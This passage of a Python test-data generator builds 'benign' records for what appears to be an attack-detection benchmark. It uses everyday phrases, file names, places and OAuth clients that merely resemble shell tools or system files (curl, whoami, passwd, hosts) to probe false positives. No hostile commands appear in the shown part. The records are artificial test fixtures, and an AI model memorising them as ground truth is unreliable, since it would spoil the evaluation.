    "https://en.wikipedia.org/wiki/Hosts_(file)",
    "https://github.com/acme/infra/blob/main/etc/nginx/nginx.conf",
    "https://example.com/downloads/setup.exe",
    "https://cdn.example.org/docs/install.sh",
]
PROSE = [
    "I'll cat the logs tomorrow",
    "select a date",
    "the system is down",
    "head office",
    "tail lift for the delivery van",
    "Dig Inn catering order",
    "Curl Curl beach",
    "Ping An Insurance",
    "Perl family reunion",
    "Ruby Tuesday",
    "python handling course",
    "whoami podcast",
    "type specimen book",
    "net promoter score",
    "find my order",
    "kill switch for the campaign",
    "mount Everest trip",
    "export to Excel",
    "sort by name",
    "more results",
    "less than 10 items",
    "id card reprint",
    "env friendly packaging",
    "host family application",
    "shell oil invoice",
    "tar heel alumni",
    "zip code 90210",
    "git of a week",
    "docker pants order",
    "passwd change request",
    "history of the company",
    "ps: bring the badge",
    "reg number ABC-123",
    "sc Freiburg tickets",
    "set the table for 8",
    "copy of the contract",
    "start date next Monday",
    "Windows 11 upgrade",
    "config file for the printer",
    "web config",
    "system settings",
    "boot camp registration",
    "etc.",
    "and/or",
    "1/2 price",
    "Q3/Q4 review",
    "../ notation in the style guide",
    "Hosts for the summer party",
    "the proc of the annual report",
    "log in problems",
    "access log request from audit",
    "error log review meeting",
    "SSH key rotation policy",
    "AWS credentials rotation",
    "remote include of the footer",
    "ftp server decommission",
    "smb share permissions",
    "the include file for the newsletter",
    "Get-Help",
    "Invoke the warranty",
]
FILE_NAMES = [
    "passwd-reset-guide.pdf", "hosts-list-2024.xlsx", "shadow-board-minutes.docx", "group-photo.jpg",
    "cat.png", "tail-of-two-cities.epub", "head-count-q3.xlsx", "curl-curl-beach.jpg", "python-course.pdf",
    "perl-necklace.png", "ruby-wedding-invite.pdf", "nginx-talk-slides.pdf", "config-notes.txt",
    "win-loss-report.xlsx", "boot-sale-flyer.pdf", "system-diagram.vsdx", "env-impact-2024.pdf",
    "id-card-front.jpg", "profile.jpg", "sort-order.csv", "history-essay.docx", "proc-minutes-may.pdf",
    "log-book-scan.pdf", "access-request-form.pdf", "credentials-template.docx", "web-config-guide.pdf",
    "etc-expenses-march.xlsx", "include-list.txt", "remote-work-policy.pdf", "smb-pricing.pdf",
]
PLACES = ["Curl Curl", "Perl", "Ruby", "Echo", "Kill Devil Hills", "Sort", "Mount Isa", "Cat Island", "Nome",
          "Bash Bish Falls", "Nice", "Bath", "Head of the Harbor", "Tar Heel", "Shell Beach", "Ping Tung",
          "Hosts", "Type", "Dig", "Find"]
OAUTH_CLIENTS = ["cat-inventory", "curl-smoke-tests", "kubectl-sync", "python-reporter", "perl-legacy-billing",
                 "docker-registry-bot", "git-mirror", "powershell-inventory", "win-agent", "nginx-exporter"]


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(SLACK_TEXTS, prefix)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, prefix, n)
    for i, fname in enumerate(FILE_NAMES):
        n += 1
        rec = (_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", fname)]) if i % 2 else
               place("json", "attachment", fname))
        yield {**rec, "id": f"{prefix}-file-{n:04d}", "category": "benign", "placement": "mixed"}
    n = yield from numbered((place("me", "place", p) for p in PLACES), f"{prefix}-place", n, "form")
    for c in OAUTH_CLIENTS:
        n += 1
        yield {**_form("/oauth/token", [("grant_type", "client_credentials"), ("client_id", c),
                                        ("client_secret", "s3cr3t-value"), ("scope", "read write")]),
               "id": f"{prefix}-oauth-{n:04d}", "category": "benign", "placement": "form"}
    for p in PLACES[:10]:
        n += 1
        yield {**prose_request(f"users in {p}"), "id": f"{prefix}-search-{n:04d}", "category": "benign",
               "placement": "form"}


if __name__ == "__main__":
    print_records(attacks(), benign())
